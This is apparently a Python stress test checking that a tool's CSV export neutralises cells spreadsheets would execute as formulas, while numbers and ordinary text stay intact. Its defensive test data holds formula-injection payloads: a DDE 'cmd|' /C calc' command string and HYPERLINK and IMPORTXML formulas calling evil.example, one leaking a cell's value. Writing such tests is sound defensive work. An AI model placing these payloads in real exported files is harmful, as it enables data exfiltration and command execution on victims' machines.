"""21. Text that a spreadsheet would run as a formula is neutralised in every CSV we write; everything else comes back as it was."""

from __future__ import annotations

import csv
import io
import itertools
import re
import tempfile
from pathlib import Path

from click.testing import CliRunner

from tests.stress.counting import described
from tests.stress.outcome import Outcome, Progress, scaled, silent

TITLE = "formulas in exported CSV"
QUICK = 0.01
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " =",
    "\t=",
    "\n+",
    "  @",
    "＝",
    "＋",
    "－",
    "＠",
    "\u00a0=",
    "\u3000=",
    "\ufeff=",
    "\ufeff\ufeff=",
    "\u200b+",
    "\u200e@",
    "\u2060-",
    "\x00=",
    "\x1b=",
    "\x7f=",
    "\ufe0f=",
    "\ufeff \u200b=",
)
WITHIN = ("yes;", "a\t", "x\n", "x\r", "b;\ufeff", "b; ", 'q";', 'q";"', ";", "a,b;", "a;b;")
"""What ends a cell for a spreadsheet whose list separator is no comma."""
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"x")', "SUM(A1:A9)", 'IMPORTXML("http://evil.example","//a")', "DDE(a;b;c)",
    "1+1,2", '1"+"1', "1\n+1", "A1", "x", "é", "2+5+cmd|' /C calc'!A0", "WEBSERVICE(A1)",
)  # fmt: skip
KEPT = (
    "-1",
    "+1.5",
    "-inf",
    "1e-5",
    "+",
    "-",
    "a=b",
    "x@y",
    "a-b",
    "",
    "01",
    "NA",
    "'quoted",
    "a,b",
    'a"b',
    "é",
    "a\nb",
    "1-2",
    "−1",
)
"""Numbers, lone signs, and text that starts otherwise."""


def run(scale: float, progress: Progress = silent) -> Outcome:
    """Cells, headers, and a model whose classes are formulas, through the command line."""
    payloads = [start + body for start, body in itertools.product(STARTS, BODIES)]
    total = Outcome(0)
    for payload in payloads:
        total += _cell(payload, neutral=True)
    for text in (
        *payloads,
        *(before + payload for before in WITHIN for payload in payloads[:: 1 + round(10 / max(scale, 1))]),
    ):
        total += _spreadsheets(text)
    for text in KEPT:
        total += _cell(text, neutral=False)
    for done in range(scaled(10, scale, least=0)):
        total += _command(payloads[done::37][:5])
        progress(done + 1, 10)
    return total


def _cell(text: str, *, neutral: bool) -> Outcome:
    from compromis.frames import to_csv

    header, row = csv.reader(io.StringIO(to_csv({text + "": ["plain"], "other": [text]}), newline=""))
    right = header[0] == row[1] == text
    if (
        neutral
    ):  # a quote in front, and others within where a cell may begin for some spreadsheet; nothing else is changed
        right = header[0] == row[1] and row[1].startswith("'") and row[1].replace("'", "") == text.replace("'", "")
    return Outcome(1, () if right else (f"{text!r} was written as {header[0]!r} and {row[1]!r}",))


def _spreadsheets(text: str) -> Outcome:
    """Read what we wrote as spreadsheets with three separators do, and look for a cell that each would run."""
    from compromis.frames import to_csv

    written = to_csv({text: ["plain", text], "other": [text, text]}).removeprefix("\ufeff")
    failures = []
    for mark in ",;\t":
        for cell in itertools.chain.from_iterable(csv.reader(io.StringIO(written, newline=""), delimiter=mark)):
            seen = "".join(letter for letter in cell if letter.isprintable()).strip().lstrip("\ufe0f")
            if seen[:1] in tuple("=+-@＝＋－＠") and not re.fullmatch(r"[+-]?[\d.]*", seen):
                failures.append(f"{text!r}, read with {mark!r}, has the cell {cell!r}")
    return Outcome(3, tuple(failures))


def _command(classes: list[str]) -> Outcome:
    """Fit and predict a table whose target and classes are formulas."""
    from compromis.cli import main

    try:
        with tempfile.TemporaryDirectory() as name:
            folder = Path(name)
            table, model, output = folder / "rows.csv", folder / "x.model", folder / "out.csv"
            with table.open("w", newline="", encoding="utf-8") as stream:
                rows = [[k % len(classes), classes[k % len(classes)]] for k in range(60)]
                csv.writer(stream).writerows([["number", "=target()"], *rows])
            for arguments in (
                [
                    "fit",
                    str(table),
                    "--target",
                    "=target()",
                    "--model",
                    "logistic",
                    "--prioritise",
                    classes[0],
                    "--output",
                    str(model),
                ],
                ["predict", str(model), str(table), "--output", str(output)],
            ):
                done = CliRunner().invoke(main, arguments, catch_exceptions=False)
                assert done.exit_code == 0, done.output
            with output.open(newline="", encoding="utf-8") as stream:
                header, *cells = csv.reader(stream)
            assert header == ["'=target()"]
            assert all(cell.startswith("'") for (cell,) in cells)
            assert {cell.replace("'", "") for (cell,) in cells} <= {label.replace("'", "") for label in classes}
    except Exception as error:
        return Outcome(1, (described(error, f"classes {classes}"),))
    return Outcome(1)
